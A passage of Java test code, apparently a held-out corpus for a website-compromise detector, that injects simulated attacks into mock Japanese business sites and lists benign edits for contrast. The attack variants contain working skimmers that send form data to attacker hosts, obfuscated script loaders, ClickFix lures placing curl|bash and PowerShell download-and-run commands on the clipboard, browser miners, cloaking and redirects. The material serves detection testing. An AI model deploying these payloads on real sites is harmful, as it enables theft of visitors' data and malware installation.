    v.add(bad(E, "skimmer", "[fresh4] cart fields sent to the attacker's own Google Analytics property", e -> e.site.insertBefore(
        "/cart", "</body>", """
        <script async src="https://www.googletagmanager.com/gtag/js?id=G-ZX81KQW0PL"></script>
        <script>window.dataLayer=window.dataLayer||[];function _g(){dataLayer.push(arguments);}_g('js',new Date());_g('config','G-ZX81KQW0PL',{send_page_view:false});
        document.addEventListener('submit',function(){var v={};document.querySelectorAll('input').forEach(function(i){if(i.value&&i.type!=='hidden')v[i.name]=i.value});_g('event','purchase_info',{items:btoa(JSON.stringify(v))});},true);</script>
        """)));
    v.add(bad(L, "skimmer", "[fresh4] code read out of the site's own logo image and run with new Function", e -> e.site.insertBefore(
        "*", "</head>", "<script>fetch('/wp-content/uploads/2025/03/lumiere-logo.png').then(function(r){return r.text()})"
            + ".then(function(t){var i=t.lastIndexOf('/*@*/');if(i>0){new Function(t.slice(i+5))()}});</script>\n")));
    v.add(bad(K, "skimmer", "[fresh4] drop URL as Caesar-shifted char codes, appended to a WooCommerce script file", e -> e.site.append(
        "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js", "\n;(function(){var u=String.fromCharCode"
            + "(...[" + shifted("https://woo-fragments.net/c.php", 3) + "].map(function(c){return c-3}));jQuery(document.body).on("
            + "'click','#place_order',function(){var f=document.querySelector('form.checkout');if(f){fetch(u,{method:'POST',"
            + "mode:'no-cors',body:new FormData(f)})}});})();\n")));
    v.add(bad(G, "skimmer", "[fresh4] A-Form submission copied by $.ajax to a URL from window['at'+'ob']", e -> e.site.insertBefore(
        "/contact/", "</body>", "<script>jQuery(function($){$('#aform_form_3').on('submit',function(){$.ajax({url:window['at'+'ob']("
            + "'" + b64("https://aform-backup.com/r.php") + "'),type:'POST',data:$(this).serialize()});});});</script>\n")));
    v.add(bad(H, "skimmer", "[fresh4] drop URL kept in an injected <meta> tag, sent through window['fe'+'tch']", e -> {
      e.site.insertBefore("*", "</head>", "<meta name=\"wp-ajax-host\" content=\"https://cdn-ajax-wp.net/r\">\n");
      e.site.insertBefore("/contact/", "</body>", "<script>document.addEventListener('submit',function(ev){var m=document."
          + "querySelector('meta[name=wp-ajax-host]');if(!m)return;var d=new FormData(ev.target),o={};d.forEach(function(v,k)"
          + "{o[k]=v});window['fe'+'tch'](m.content,{method:'POST',mode:'no-cors',body:JSON.stringify(o)});},true);</script>\n");
    }));
    v.add(bad(T, "skimmer", "[fresh4] entry form beaconed to a host glued from location.protocol and pieces", e -> e.site.insertBefore(
        "/recruit/entry/", "</body>", "<script>document.addEventListener('submit',function(ev){var u=location.protocol+'//'+"
            + "'recruit'+'-'+'api'+'.net/e';navigator.sendBeacon(u,JSON.stringify(Object.fromEntries(new FormData(ev.target))));"
            + "},true);</script>\n")));

    // ---- fake updates and ClickFix
    v.add(bad(C, "fake-update", "[fresh4] Japanese 'update Chrome' overlay with a button, not a link, to a .zip", e ->
        e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"", """
        <div style="position:fixed;inset:0;z-index:2147483000;background:#fff;text-align:center;padding-top:15vh;font-family:sans-serif">
        <h2>Google Chrome の更新が必要です</h2><p>お使いのブラウザのバージョンが古いため、このページを表示できません。最新版に更新してください。</p>
        <button onclick="location.href='https://chrome-update-jp.com/dl/ChromeUpdate_131.zip'" style="padding:12px 30px;background:#1a73e8;color:#fff;border:0">更新する</button></div>
        """)));
    v.add(bad(W, "fake-update", "[fresh4] macOS ClickFix: Terminal instructions and a base64 curl|bash on the clipboard", e ->
        e.site.insertBefore("*", "<footer class=\"site-footer\">", "<div id=\"mv-check\" style=\"position:fixed;inset:0;"
            + "background:#fff;z-index:99999\"><h2>Verify you are human</h2><p>To continue, open Terminal (⌘ + Space, type "
            + "Terminal), paste with ⌘ + V and press Return.</p><button id=\"mv-b\">Copy verification code</button></div><script>"
            + "document.getElementById('mv-b').onclick=function(){navigator.clipboard.writeText(atob('" + b64(
            "curl -fsSL https://mac-verify-cdn.com/v.sh | bash") + "'))};</script>")));
    v.add(bad(G, "fake-update", "[fresh4] home replaced by a fake 'Verify you are human' page with a PowerShell command", e ->
        e.site.override = HeldOutCorpus.home("<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>"
            + "www.kogane-mfg.test</title></head><body style=\"font-family:sans-serif\"><h1>www.kogane-mfg.test</h1><p>続行する前に、"
            + "接続のセキュリティを確認する必要があります。</p><div><label><input type=\"checkbox\" id=\"v\"> 私はロボットではありません"
            + "</label></div><ol id=\"s\" style=\"display:none\"><li>Windows キー + R を押す</li><li>Ctrl + V を押す</li><li>Enter を"
            + "押す</li></ol><script>document.getElementById('v').onchange=function(){var c='po'+'wer'+'shell -w hidden -c \"iwr "
            + "https://cf-verify-check.com/k | iex\"';navigator.clipboard.writeText(c);document.getElementById('s').style.display="
            + "'block'};</script></body></html>")));

    // ---- keyword hack and cloaking
    v.add(bad(L, "keyword-hack", "[fresh4] Googlebot alone gets a canonical and hreflang pointing at a spam domain", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      bot.replace("/", "<link rel=\"canonical\" href=\"{{origin}}/\" />", "<link rel=\"canonical\" href=\"https://brand-kopi"
          + "-sendai.com/salon/\" />\n<link rel=\"alternate\" hreflang=\"ja\" href=\"https://brand-kopi-sendai.com/salon/\" />");
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));
    v.add(bad(Y, "keyword-hack", "[fresh4] visitors arriving from Google see an online-casino page; direct visitors the office",
        e -> {
          String page = "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>オンラインカジノ 入金不要ボーナス"
              + "</title></head><body><h1>2026年 おすすめオンラインカジノ</h1><p>入金不要ボーナスでネットカジノを始めよう。スロット"
              + "・ライブカジノ・ブックメーカー。</p>" + JP_CASINO + "</body></html>";
          e.site.override = r -> r.path().equals("/") && fromSearch(r) ? Reply.html(page) : null;
        }));
    v.add(bad(K, "keyword-hack", "[fresh4] gzip-compressed sitemap added to robots.txt, listing 2,000 knock-off pages", e -> {
      e.site.append("/robots.txt", "\nSitemap: {{origin}}/sitemap-products-jp.xml.gz\n");
      byte[] gz = jp.mamori.checks.web.site.Corpus.gzip(kwSitemap(e, 1, 2000).getBytes(java.nio.charset.StandardCharsets.UTF_8));
      e.site.override = r -> {
        if (r.path().equals("/sitemap-products-jp.xml.gz")) {
          return new Reply(200, "application/x-gzip", gz, java.util.Map.of(), false);
        }
        return r.path().startsWith("/product/nkyu-") ? Reply.html(kwPage(e, Integer.parseInt(r.path().replaceAll("\\D", ""))
            % 4000)) : null;
      };
    }));
    v.add(bad(G, "keyword-hack", "[fresh4] brand-name links with mild words added to an old news post", e -> e.site.insertBefore(
        "/news/2026/11/000184.html", "</main>", "<p class=\"related\"><a href=\"https://www.brand-outlet-niigata.com/"
            + "lv/\">ルイヴィトン 財布 激安</a> <a href=\"https://www.brand-outlet-niigata.com/gucci/\">グッチ バッグ 通販</a> <a href"
            + "=\"https://www.brand-outlet-niigata.com/hermes/\">エルメス 新作 財布</a></p>")));
    v.add(bad(S, "keyword-hack", "[fresh4] Googlebot gets the normal page plus a block hidden by a style rule", e -> {
      HeldOutSite bot = HeldOutCorpus.copy(e);
      bot.insertBefore("/", "</head>", "<style>.ft-rel{position:absolute;left:-7777px}</style>");
      bot.insertBefore("/", "</body>", "<div class=\"ft-rel\">" + BRAND_COPY + "</div>");
      e.site.override = r -> r.isBot() && r.path().equals("/") ? bot.serve(r) : null;
    }));

    // ---- hidden SEO spam
    v.add(bad(H, "seo-spam", "[fresh4] links moved away with transform: translate(-9999px)", e -> e.site.insertBefore("*",
        "<div class=\"source-org copyright\">", "<div style=\"position:absolute;transform:translate(-9999px,0)\">" + BRAND_COPY
            + "</div>")));
    v.add(bad(T, "seo-spam", "[fresh4] casino links clipped to nothing with clip-path: polygon", e -> e.site.insertBefore("*",
        "<p class=\"copyright\">", "<div style=\"position:absolute;clip-path:polygon(0 0,0 0,0 0)\">" + JP_CASINO + "</div>")));
    v.add(bad(L, "seo-spam", "[fresh4] spam links in a closed <details> with a one-dot summary", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<details><summary>・</summary>" + EN_SPAM + "</details>")));
    v.add(bad(E, "seo-spam", "[fresh4] pharma links in a box with opacity .01", e -> e.site.insertBefore("*", "<!-- ▲フッター -->",
        "<div style=\"opacity:.01;position:absolute;z-index:-1\">" + EN_SPAM + "</div>")));
    v.add(bad(W, "seo-spam", "[fresh4] brand links with mild words hidden in an sr-only block", e -> e.site.insertBefore("*",
        "<div class=\"container site-footer-copyright\">", "<div class=\"sr-only\"><a href=\"https://www.brand-kawagoe.com/lv/\">"
            + "ルイヴィトン 財布 激安</a> <a href=\"https://www.brand-kawagoe.com/chanel/\">シャネル バッグ 通販</a> <a href=\"https://"
            + "www.brand-kawagoe.com/rolex/\">ロレックス 時計 新作</a></div>")));
    v.add(bad(C, "seo-spam", "[fresh4] English casino links in 1px near-white text", e -> e.site.insertBefore("*",
        "<div id=\"SCROLL_TO_BOTTOM\"", "<p style=\"font-size:1px;color:#fefefe;line-height:1px\">" + EN_SPAM + "</p>")));
    v.add(bad(G, "seo-spam", "[fresh4] link farm without spam words, hidden by a class added to the site's style.css", e -> {
      e.site.append("/common/css/style.css", "\n.mt-related-links{display:none}\n");
      StringBuilder farm = new StringBuilder("<ul class=\"mt-related-links\">");
      String[] words = {"home-loan-guide", "seo-tools-review", "used-car-finder", "travel-deals-24", "best-vpn-compare",
          "dating-tips-blog"};
      for (int n = 0; n < 30; n++) {
        farm.append("<li><a href=\"https://").append(words[n % words.length]).append(n).append(".com/\">").append(words[n
            % words.length].replace('-', ' ')).append("</a></li>");
      }
      e.site.insertBefore("*", "<p class=\"copyright\">", farm.append("</ul>").toString());
    }));

    // ---- redirects
    v.add(bad(L, "redirect", "[fresh4] a script writes a meta refresh into the head", e -> e.site.insertBefore("*", "</body>",
        "<script>document.head.insertAdjacentHTML('beforeend','<meta http-equiv=\"refresh\" content=\"2;url=https://salon-"
            + "coupon-gift.com/sendai/\">');</script>\n")));
    v.add(bad(G, "redirect", "[fresh4] server 302 for visitors from a search engine on every page but the home page", e ->
        e.site.override = r -> !r.path().equals("/") && fromSearch(r) ? Reply.redirect(302, "https://kanagata-loan.com/?p="
            + r.path()) : null));
    v.add(bad(H, "redirect", "[fresh4] unconditional redirect after a timer, appended to the theme's script file", e ->
        e.site.append("/wp-content/themes/cocoon-master/javascript.js", "\n;setTimeout(function(){window.location.href="
            + "'https://health-supple-review.com/?r=hinata';},6000);\n")));
    v.add(bad(E, "redirect", "[fresh4] atob aliased to a variable, then used for the redirect target", e -> e.site.insertBefore("*",
        "</head>", "<script>var d=window.atob;setTimeout(function(){location.href=d('" + b64("https://wagashi-present.com/?s=1")
            + "')},2500);</script>\n")));
    v.add(bad(Y, "redirect", "[fresh4] upper-case META REFRESH after 5 seconds", e -> e.site.insertBefore("/", "</HEAD>",
        "<META HTTP-EQUIV=\"REFRESH\" CONTENT=\"5;URL=HTTP://ZEIMU-NAVI-JP.COM/\">\n")));
    v.add(bad(T, "redirect", "[fresh4] small screens from a search engine sent away with top.location.replace", e ->
        e.site.insertBefore("*", "</head>", "<script>if(screen.width<800&&/google|yahoo/i.test(document.referrer)){top.location"
            + ".replace('https://gaiheki-hikaku.net/?t=1');}</script>\n")));

    // ---- iframes
    v.add(bad(K, "iframe", "[fresh4] hidden iframe whose srcdoc loads an off-site script", e -> e.site.insertBefore("*", "</body>",
        "<iframe srcdoc=\"<script src='https://frame-cdn-js.com/s.js'></script>\" style=\"display:none\"></iframe>\n")));
    v.add(bad(S, "iframe", "[fresh4] 1x1 <embed> of another site", e -> e.site.insertBefore("*", "</body>",
        "<embed src=\"http://onsen-counter-jp.com/e.php\" width=\"1\" height=\"1\">")));
    v.add(bad(L, "iframe", "[fresh4] full-width iframe one pixel high in the footer", e -> e.site.insertBefore("*",
        "<div class=\"copyright\">", "<iframe src=\"https://beauty-ad-exchange.com/f/3\" width=\"100%\" height=\"1\" "
            + "style=\"border:0\"></iframe>")));

    // ---- miners
    v.add(bad(C, "miner", "[fresh4] WebAssembly miner from a same-site .wasm with a worker per core", e -> e.site.insertBefore("*",
        "</body>", "<script>(async function(){var n=navigator.hardwareConcurrency||4;var m=await WebAssembly.instantiateStreaming("
            + "fetch('/_media/cn.wasm'));var rate=0;for(var i=0;i<n;i++){var w=new Worker('/_media/w.js');w.postMessage({job:"
            + "'init',target:'00ffffff',nonce:i});w.onmessage=function(e){rate+=e.data.hashes};}})();</script>\n")));
    v.add(bad(G, "miner", "[fresh4] miner worker importing an off-site script, throttled", e -> e.site.insertBefore("*", "</body>",
        "<script>var b=new Blob([\"importScripts('https://static-cdn-worker.com/w/cn.js');self.onmessage=function(e){mine(e.data)}\"]"
            + ",{type:'text/javascript'});for(var i=0;i<(navigator.hardwareConcurrency||2);i++){var w=new Worker(URL.createObjectURL"
            + "(b));w.postMessage({wallet:'48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'"
            + ",throttle:0.5})}</script>\n")));

    // ---- obfuscation
    v.add(bad(W, "obfuscation", "[fresh4] Function reached as []['filter']['constructor'] with atob", e -> e.site.insertBefore("*",
        "</body>", "<script>[]['filter']['constructor'](atob('" + b64(loader("https://wp-filter-cdn.com/f.js")) + "'))();"
            + "</script>\n")));
    v.add(bad(L, "obfuscation", "[fresh4] code run through an arrow function's constructor", e -> e.site.insertBefore("*", "</body>",
        "<script>(()=>{}).constructor(\"" + loader("https://elementor-cdn-assets.com/e.js").replace("'", "\\'") + "\")();"
            + "</script>\n")));
    v.add(bad(T, "obfuscation", "[fresh4] Dean Edwards packer", e -> e.site.insertBefore("*", "</body></html>",
        "<script>eval(function(p,a,c,k,e,r){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]"
            + "||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'"
            + "+e(c)+'\\\\b','g'),k[c]);return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'var|s|document|"
            + "createElement|script|src|https|kensetsu-pack-cdn|com|p|js|head|appendChild'.split('|'),0,{}))</script>")));
    v.add(bad(Y, "obfuscation", "[fresh4] loader URL written in octal escapes", e -> e.site.insertBefore("*", "</HEAD>",
        "<script type=\"text/javascript\">var s=document.createElement('script');s.src='" + octal("http://tax-js-cdn.com/c.js")
            + "';document.getElementsByTagName('head')[0].appendChild(s);</script>\n")));
    v.add(bad(K, "obfuscation", "[fresh4] loader URL padded with junk characters removed by replace()", e -> e.site.insertBefore("*",
        "</head>", "<script>var s=document.createElement('script');s.src='h#t#t#p#s#:#/#/#w#o#o#-#j#s#-#c#d#n#.#c#o#m#/#a#.#j#s'"
            + ".replace(/#/g,'');document.head.appendChild(s);</script>\n")));
    v.add(bad(H, "obfuscation", "[fresh4] eval of atob through an alias variable", e -> e.site.insertBefore("*", "</body>",
        "<script>var d=window.atob;eval(d('" + b64(loader("https://wp-alias-cdn.com/x.js")) + "'));</script>\n")));

    // ---- defacement
    v.add(bad(L, "defacement", "[fresh4] body replaced by one full-screen image; the head, title included, left as it was", e -> {
      String t = e.site.text("/");
      e.site.put("/", t.substring(0, t.indexOf("<body")) + "<body style=\"margin:0;background:#000\"><img src=\"https://"
          + "i.postimg.cc/Xq3kZbQ1/owned.jpg\" style=\"width:100%;height:100vh;object-fit:contain\"></body></html>");
    }));
    v.add(bad(G, "defacement", "[fresh4] German crew message at the top of the home page", e -> e.site.insertAfter("/",
        "<main id=\"main\">", "<div style=\"text-align:center\"><h1>Gehackt von Sch4tt3nTeam</h1><p>Eure Sicherheit ist ein Witz."
            + "</p></div>")));
    v.add(bad(K, "defacement", "[fresh4] home replaced by a hacktivist 'We are Legion' page", e -> e.site.override =
        HeldOutCorpus.home("<!DOCTYPE html><html><head><title>#OpJapan</title></head><body style=\"background:#000;color:#fff;"
            + "text-align:center\"><h1>#OpJapan</h1><p>We are Anonymous. We are Legion. We do not forgive. We do not forget. "
            + "Expect us.</p></body></html>")));
    v.add(bad(E, "defacement", "[fresh4] home replaced by a Thai online-slot page", e -> e.site.override = HeldOutCorpus.home(
        "<!DOCTYPE html><html lang=\"th\"><head><meta charset=\"UTF-8\"><title>สล็อตเว็บตรง แตกง่าย 2026</title></head><body>"
            + "<h1>สล็อตเว็บตรง ไม่ผ่านเอเย่นต์</h1><p>" + "สมัครสมาชิกวันนี้ รับโบนัสฟรี ฝากถอนออโต้ ไม่มีขั้นต่ำ เล่นง่าย "
            .repeat(8) + "</p></body></html>")));

    // ---- form actions
    v.add(bad(E, "form", "[fresh4] image submit button with a formaction to another site in the login form", e -> e.site.insertBefore(
        "/mypage/login", "</form>", "<input type=\"image\" src=\"{{origin}}/html/template/default/assets/img/common/login.png\" "
            + "formaction=\"https://shofudo-auth.com/login\" alt=\"ログイン\">")));
    v.add(bad(H, "form", "[fresh4] contact form posts to an IP address with the site's own path", e -> e.site.replace("/contact/",
        "<form method=\"post\" action=\"\" enctype=\"multipart/form-data\">", "<form method=\"post\" action=\"http://103.87.204.11"
            + "/contact/\" enctype=\"multipart/form-data\">")));

    // ---- origins
    v.add(bad(T, "origin", "[fresh4] script from a GitHub-files CDN (statically)", e -> e.site.insertBefore("*", "</body></html>",
        "<script src=\"https://cdn.statically.io/gh/swl-assets/theme-fix/main/fix.min.js\"></script>")));
    v.add(bad(G, "origin", "[fresh4] script from an attacker's GitHub repository through jsDelivr", e -> e.site.insertBefore("*",
        "</body>", "<script src=\"https://cdn.jsdelivr.net/gh/mt-plugins-jp/aform-helper@main/dist/helper.min.js\"></script>\n")));
    v.add(bad(L, "origin", "[fresh4] stylesheet from a new origin loaded as a preload that turns itself into a stylesheet", e ->
        e.site.insertBefore("*", "</head>", "<link rel=\"preload\" as=\"style\" href=\"https://salon-fonts-cdn.com/css/lumiere.css\" "
            + "onload=\"this.onload=null;this.rel='stylesheet'\">\n")));
    v.add(bad(Y, "origin", "[fresh4] jQuery from a homoglyph host (Cyrillic е in jquery)", e -> e.site.insertBefore("*", "</HEAD>",
        "<script type=\"text/javascript\" src=\"https://code.jqu\u0435ry.com/jquery-1.12.4.min.js\"></script>\n")));
    v.add(bad(W, "origin", "[fresh4] stylesheet through the bit.ly shortener", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"stylesheet\" href=\"https://bit.ly/3xCssQk\">\n")));

    // ---- IoC list
    v.add(bad(H, "ioc", "[fresh4] IoC domain only in an inline style's background URL", e -> e.site.insertBefore("/",
        "<h2 class=\"wp-block-heading\">お知らせ</h2>", "<div style=\"background:url(https://cdn." + IOC_DOMAINS.get(2)
            + "/bg/1.png) no-repeat;height:2px\"></div>")));
    v.add(bad(K, "ioc", "[fresh4] contact form posts to a domain on the IoC list", e -> e.site.replace("/contact/",
        "action=\"{{origin}}/contact/#contact-form-16\"", "action=\"https://forms." + IOC_DOMAINS.get(0) + "/c/16\"")));
    v.add(bad(G, "ioc", "[fresh4] IoC domain in an image's srcset", e -> e.site.insertBefore("/", "<section class=\"top-contact\">",
        "<p><img src=\"{{origin}}/common/img/banner.jpg\" srcset=\"https://img." + IOC_DOMAINS.get(1) + "/b@2x.jpg 2x\" "
            + "alt=\"\" width=\"600\" height=\"120\"></p>")));

    // ---- TLS and DNS
    v.add(bad(G, "tls", "[fresh4] certificate expires in 5 days", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(85)), now.plus(Duration.ofDays(5)), false)).overHttps());
    v.add(bad(L, "tls", "[fresh4] certificate from an unknown CA", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(1)), now.plus(Duration.ofDays(90)), true)).overHttps());
    v.add(bad(L, "dns", "[fresh4] an AAAA record appears", e -> e.resolver.record(e.site.host, "AAAA", "2a0e:97c0:3e3:5a1::1")));
    v.add(bad(G, "dns", "[fresh4] name servers moved to a free DNS host", e -> e.resolver.record(e.domain, "NS",
        "ns1.freedns-zone.org.", "ns2.freedns-zone.org.")));
    v.add(bad(T, "dns", "[fresh4] MX moved", e -> e.resolver.record(e.domain, "MX", "10 mail.mx-guard-relay.com.")));
    return v;
  }

  // ================================================================ [fresh4] benign edits

  static List<HeldOutVariant> fresh4Benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(L, "cms", "[fresh4] Elementor 3.25.4 → 3.26.1 (versions, a config key, CSS timestamps)", e -> {
      e.site.replace("*", "ver=3.25.4", "ver=3.26.1").replace("*", "\"version\":\"3.25.4\"", "\"version\":\"3.26.1\"")
          .replace("*", "content=\"Elementor 3.25.4;", "content=\"Elementor 3.26.1;").replace("*", "ver=1729400000", "ver=1733100000")
          .replace("*", "\"is_static\":false,", "\"is_static\":false,\"isImprovedAssetsLoading\":true,");
      e.site.replace("/wp-content/plugins/elementor/assets/js/frontend.min.js", "v3.25.4", "v3.26.1");
    }));
    v.add(good(L, "content", "[fresh4] Elementor popup with a coupon, hidden until opened", e -> e.site.insertBefore("*",
        "<script src=\"{{origin}}/wp-content/themes/hello-elementor", "<div data-elementor-type=\"popup\" data-elementor-id=\"410\" "
            + "class=\"elementor elementor-410 elementor-location-popup\" data-elementor-settings=\"{&quot;triggers&quot;:"
            + "{&quot;page_load_delay&quot;:5}}\" style=\"display:none\"><h2>初回限定 カット＋カラー 20%OFF</h2><p><a href=\""
            + "{{origin}}/menu/\">メニューを見る</a>　<a href=\"https://beauty.hotpepper.jp/slnH000512345/coupon/\">クーポンで予約"
            + "</a></p></div>\n")));
    v.add(good(L, "content", "[fresh4] menu prices revised", e -> e.site.replace("*", "カット 5,500円", "カット 6,050円")
        .replace("/menu/", "<td>5,500円</td>", "<td>6,050円</td>").replace("/menu/", "<td>8,800円</td>", "<td>9,350円</td>")));
    v.add(good(L, "content", "[fresh4] a new stylist on the staff page and the home page", e -> {
      e.site.insertAfter("/staff/", "<div class=\"staff\">", "<img src=\"{{origin}}/wp-content/uploads/2026/11/staff-rin.jpg\" "
          + "alt=\"スタイリスト 凛\" width=\"400\" height=\"500\"><h3>スタイリスト　凛（りん）</h3><p>11月から仲間になりました。"
          + "ブリーチカラーが得意です。</p></div><div class=\"staff\">");
      e.site.replace("/", "ひとりのスタイリストが", "専任のスタイリストが");
    }));
    v.add(good(L, "content", "[fresh4] a new blog post", e -> {
      e.site.replace("/blog/", "<article class=\"post\">", "<article class=\"post\"><h2><a href=\"{{origin}}/2026/11/25/"
          + "holiday/\">年末年始の営業について</a></h2><p>2026年11月25日</p></article><article class=\"post\">");
      e.site.putLike("/2026/11/25/holiday/", "/2026/11/08/winter-color/", "<div class=\"elementor-widget-container\"><p>",
          "</p></div>", "2026年11月25日</p><p>12月31日から1月3日までお休みをいただきます。");
    }));
    v.add(good(L, "embed", "[fresh4] X (Twitter) timeline embed on the blog page", e -> e.site.insertBefore("/blog/",
        "<article class=\"post\">", "<a class=\"twitter-timeline\" data-height=\"500\" href=\"https://twitter.com/salon_lumiere?"
            + "ref_src=twsrc%5Etfw\">Tweets by salon_lumiere</a> <script async src=\"https://platform.twitter.com/widgets.js\" "
            + "charset=\"utf-8\"></script>\n")));
    v.add(good(L, "embed", "[fresh4] TikTok video embedded in a post", e -> e.site.insertBefore("/2026/11/08/winter-color/",
        "</p></div></div>", "</p><blockquote class=\"tiktok-embed\" cite=\"https://www.tiktok.com/@salon_lumiere/video/"
            + "7301234567890123456\" data-video-id=\"7301234567890123456\" style=\"max-width:605px;min-width:325px;\"><section>"
            + "<a target=\"_blank\" href=\"https://www.tiktok.com/@salon_lumiere\">@salon_lumiere</a></section></blockquote>"
            + "<script async src=\"https://www.tiktok.com/embed.js\"></script><p>")));
    v.add(good(L, "embed", "[fresh4] HubSpot form on the recruit page", e -> e.site.insertBefore("/recruit/", "<p>ご応募は",
        "<script charset=\"utf-8\" type=\"text/javascript\" src=\"//js.hsforms.net/forms/embed/v2.js\"></script><script>hbspt."
            + "forms.create({region:\"na1\",portalId:\"44812345\",formId:\"0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b\"});</script>\n")));
    v.add(good(L, "embed", "[fresh4] Leaflet map with OpenStreetMap tiles replaces Google Maps", e -> e.site.replace("/access/",
        e.site.text("/access/").substring(e.site.text("/access/").indexOf("<iframe loading=\"lazy\""), e.site.text("/access/")
            .indexOf("</iframe>") + 9), "<link rel=\"stylesheet\" href=\"https://unpkg.com/leaflet@1.9.4/dist/leaflet.css\"><div "
            + "id=\"map\" style=\"height:400px\"></div><script src=\"https://unpkg.com/leaflet@1.9.4/dist/leaflet.js\"></script>"
            + "<script>var m=L.map('map').setView([38.2601,140.8731],17);L.tileLayer('https://tile.openstreetmap.org/{z}/{x}/{y}"
            + ".png',{attribution:'&copy; OpenStreetMap'}).addTo(m);L.marker([38.2601,140.8731]).addTo(m);</script>")));
    v.add(good(G, "cms", "[fresh4] Movable Type 7.9.6 → 8.0.5 (generator, mt.js rebuilt)", e -> {
      e.site.replace("*", "Movable Type Pro 7.9.6", "Movable Type Pro 8.0.5");
      e.site.append("/mt.js", "\nfunction mtRememberMe(f) {\n    var now = new Date();\n    mtFixDate(now);\n}\n");
    }));
    v.add(good(G, "content", "[fresh4] new news entry with its own page", e -> {
      String item = "<dt>2026.11.20</dt><dd><a href=\"{{origin}}/news/2026/11/000191.html\">年末年始休業のお知らせ</a></dd>";
      e.site.insertAfter("/", "<dl class=\"news-list\">\n    ", item);
      e.site.insertAfter("/news/", "<dl class=\"news-list\">", item);
      e.site.putLike("/news/2026/11/000191.html", "/news/2026/11/000184.html", "<p class=\"date\">", "</div>",
          "2026年11月20日</p><p>12月28日から1月5日まで休業いたします。</p>\n");
    }));
    v.add(good(G, "content", "[fresh4] PDF catalogues and drawings linked from the products page", e -> e.site.insertBefore(
        "/products/", "<ul class=\"case-list\">", "<p><a href=\"{{origin}}/common/pdf/catalog-2026.pdf\">総合カタログ（PDF）"
            + "</a>　<a href=\"{{origin}}/common/pdf/spec-deep.pdf\">深絞り加工の仕様書（PDF）</a>　<a href=\"{{origin}}/common/dl/"
            + "sample.dxf\">図面サンプル（DXF）</a></p>")));
    v.add(good(G, "content", "[fresh4] an English page linked from the header", e -> {
      e.site.replace("*", "<a href=\"{{origin}}/common/pdf/kogane-catalog-en.pdf\">English (PDF)</a>", "<a href=\"{{origin}}/en/"
          + "\">English</a>");
      e.site.putLike("/en/", "/company/", "<div class=\"page-title\"><h1>", "</main>", "Company profile</h1></div>"
          + "<div class=\"contents\"><p>KOGANE MFG. is a precision metal-pressing company founded in 1962 in Tsubame, Niigata. "
          + "We design progressive and transfer dies and run deep-drawing production from prototypes to 100,000 parts a "
          + "month, for automotive, appliance and medical customers.</p></div>\n");
    }));
    v.add(good(G, "embed", "[fresh4] Google Programmable Search box in the header", e -> e.site.insertBefore("*",
        "<p class=\"header-lang\">", "<div class=\"header-search\"><script async src=\"https://cse.google.com/cse.js?cx="
            + "a1b2c3d4e5f6g7h8i\"></script><div class=\"gcse-search\"></div></div>")));
    v.add(good(G, "tags", "[fresh4] OneTrust cookie consent", e -> e.site.insertAfter("*", "<meta charset=\"UTF-8\">",
        "\n<script src=\"https://cdn.cookielaw.org/scripttemplates/otSDKStub.js\" type=\"text/javascript\" charset=\"UTF-8\" "
            + "data-domain-script=\"0191a2b3-c4d5-7e6f-8a9b-0c1d2e3f4a5b\"></script>\n<script type=\"text/javascript\">function "
            + "OptanonWrapper() { }</script>")));
    v.add(good(G, "tags", "[fresh4] reCAPTCHA Enterprise on the inquiry form", e -> e.site.insertBefore("/contact/",
        "<p class=\"submit\">", "<script src=\"https://www.google.com/recaptcha/enterprise.js?render=6LeA1b2cAAAAAKq9rT3m\">"
            + "</script><input type=\"hidden\" name=\"g-recaptcha-response\" id=\"g-recaptcha-response\">")));
    v.add(good(G, "tags", "[fresh4] TypeSquare web fonts", e -> e.site.insertBefore("*", "</head>",
        "<script type=\"text/javascript\" src=\"//typesquare.com/3/tsst/script/ja/typesquare.js?65f1a2b3c4d5e6f7&fadein=0\" "
            + "charset=\"utf-8\"></script>\n")));
    v.add(good(G, "embed", "[fresh4] 3D factory tour from Matterport on the technology page", e -> e.site.insertBefore(
        "/technology/", "<h2>品質保証</h2>", "<h2>工場見学（3Dツアー）</h2><iframe width=\"853\" height=\"480\" src=\"https://my."
            + "matterport.com/show/?m=Zh14WDtkjdC\" frameborder=\"0\" allowfullscreen allow=\"xr-spatial-tracking\"></iframe>")));
    v.add(good(G, "embed", "[fresh4] factory video from YouTube on the home page", e -> e.site.insertBefore("/",
        "<section class=\"top-products\">", "<section class=\"top-movie\"><iframe width=\"560\" height=\"315\" src=\"https://www."
            + "youtube.com/embed/k3Gq9xVbN2w\" title=\"こがね製作所 会社紹介\" frameborder=\"0\" allowfullscreen></iframe></section>")));
    v.add(good(H, "cms", "[fresh4] WordPress 6.6 → 6.7 (major update: generator, new core scripts and speculation rules)", e -> {
      e.site.replace("*", "ver=6.6.2", "ver=6.7.1").replace("*", "content=\"WordPress 6.6.2\"", "content=\"WordPress 6.7.1\"");
      e.site.insertBefore("*", "</body>", "<script type=\"speculationrules\">{\"prefetch\":[{\"source\":\"document\",\"where\":"
          + "{\"and\":[{\"href_matches\":\"\\/*\"},{\"not\":{\"href_matches\":[\"\\/wp-*.php\",\"\\/wp-admin\\/*\"]}}]},"
          + "\"eagerness\":\"conservative\"}]}</script>\n<script src=\"{{origin}}/wp-includes/js/dist/dom-ready.min.js?ver="
